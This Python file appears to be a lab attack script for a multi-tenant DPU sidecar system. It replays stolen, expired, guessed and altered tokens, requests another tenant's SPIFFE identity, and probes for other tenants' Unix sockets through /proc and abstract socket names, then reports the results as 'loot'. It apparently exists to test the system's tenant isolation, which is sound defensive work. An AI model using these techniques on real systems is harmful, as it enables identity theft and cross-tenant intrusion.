"""Attack: use another endpoint's sidecar, or one's own with another tenant's claims.

Runs in an endpoint of the attacking tenant, as its root:

    python -m ztdpu.lab.attacks.sidecar_of_another_endpoint --socket /run/ztdpu/sidecar/api.sock --attempts 12
        --claim spiffe://TD/tenant/blue/endpoint/blue-0 --reach /run/ztdpu/lab/devices/dpu-0/endpoints/blue-0/api.sock

Job tokens come on standard input, one a line: a stolen one that is good, and one of an epoch that is over. Attempts
are joins with those, with guessed ones and with altered ones, in turn; each is a call on the own socket that the device
has to see. Beside them it looks for a way to the other's socket: by its path, through /proc, by abstract names and by
what /proc/net/unix lists; and asks its own socket for the identity that it claims. The twin, in the victim's endpoint,
is `--twin`: the same joins with the good token alone.
"""

from __future__ import annotations

import argparse
import json
import os
import secrets
import socket
import sys
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Final

from ztdpu.errors import PermissionDeniedError, ZtdpuError
from ztdpu.rpc.sidecar_client import SidecarClient

PROCESSES_LIMIT: Final = 256
_CONNECT_S: Final = 1.0


@dataclass(slots=True)
class Loot:
    """What was tried and what came of it."""

    attempts: int = 0
    joined: int = 0
    """Joins that were granted."""
    refusals: list[str] = field(default_factory=list)
    """Code words."""
    reached: list[str] = field(default_factory=list)
    """Sockets of others that answered."""
    looked: int = 0
    """Ways to another socket that were tried."""
    foreign: list[str] = field(default_factory=list)
    """Identities of others that came out of the own socket."""


def tokens_to_try(stolen: str, over: str, attempts: int) -> Iterator[str]:
    """Yield so many tokens, in turn: stolen, of an epoch that is over, guessed, altered."""
    for number in range(attempts):
        altered = stolen[:-1] + ("A" if stolen[-1:] != "A" else "B")
        yield (stolen, over, secrets.token_urlsafe(32), altered)[number % 4]


def join_as(client: SidecarClient, tokens: Iterator[str], rank: int, loot: Loot) -> None:
    """Join with each token."""
    for token in tokens:
        loot.attempts += 1
        try:
            client.join(token, rank)
            loot.joined += 1
        except ZtdpuError as error:
            loot.refusals.append(error.code)


def ways_to(path: str, own: str) -> Iterator[str]:
    """Yield addresses that could lead to the socket at `path` of the host: paths and abstract names."""
    folder, name = Path(own).parent, Path(path).name
    yield path
    yield f"\0{path}"
    yield f"\0{path.lstrip('/')}"
    yield from (str(folder / ".." / part / name) for part in (Path(path).parent.name, "sidecar", "endpoints"))
    numbers = sorted((entry for entry in os.listdir("/proc") if entry.isdecimal()), key=int)  # noqa: PTH208 - no paths
    for number in numbers[:PROCESSES_LIMIT]:
        for root in (f"/proc/{number}/root", f"/proc/{number}/cwd"):
            yield root + path
            yield f"{root}{own}"
    with suppress(OSError):
        for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
            listed = line.split(maxsplit=7)[7:]
            if listed:
                yield listed[0].replace("@", "\0", 1) if listed[0].startswith("@") else listed[0]


def leads_elsewhere(address: str, own: str) -> bool:
    """Whether somebody answers there who is not behind the own socket."""
    with suppress(OSError):
        if not address.startswith("\0") and Path(address).samefile(own):
            return False
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as probe:
        probe.settimeout(_CONNECT_S)
        try:
            probe.connect(address)
        except (OSError, ValueError):
            return False
    return True


def claim(client: SidecarClient, spiffe_id: str, loot: Loot) -> None:
    """Ask the own socket for another's identity."""
    try:
        client.jwt_svid("attack", spiffe_id=spiffe_id)
        loot.foreign.append(spiffe_id)
    except PermissionDeniedError:
        pass
    own = client.who_am_i()
    loot.foreign += [one for one in client.identities() if one not in own.spiffe_ids]


def main() -> None:
    """Run the attack, or its twin."""
    parser = argparse.ArgumentParser(description="Use somebody else's sidecar.")
    parser.add_argument("--socket", required=True, help="the own api.sock")
    parser.add_argument("--attempts", type=int, default=12)
    parser.add_argument("--rank", type=int, default=0)
    parser.add_argument("--claim", default="", help="SPIFFE ID to ask for")
    parser.add_argument("--reach", default="", help="the other's api.sock as the host names it; empty: not tried")
    parser.add_argument("--twin", action="store_true", help="join with the good token alone")
    given = parser.parse_args()
    stolen, over = sys.stdin.readline().strip(), sys.stdin.readline().strip()
    loot = Loot()
    with SidecarClient(given.socket) as client:
        if given.twin:
            join_as(client, iter([stolen] * given.attempts), given.rank, loot)
        else:
            join_as(client, tokens_to_try(stolen, over, given.attempts), given.rank, loot)
            claim(client, given.claim, loot)
    if given.reach:
        for address in dict.fromkeys(ways_to(given.reach, given.socket)):
            loot.looked += 1
            if leads_elsewhere(address, given.socket):
                loot.reached.append(address.replace("\0", "@"))
    json.dump(asdict(loot), sys.stdout)
    print()


if __name__ == "__main__":
    main()
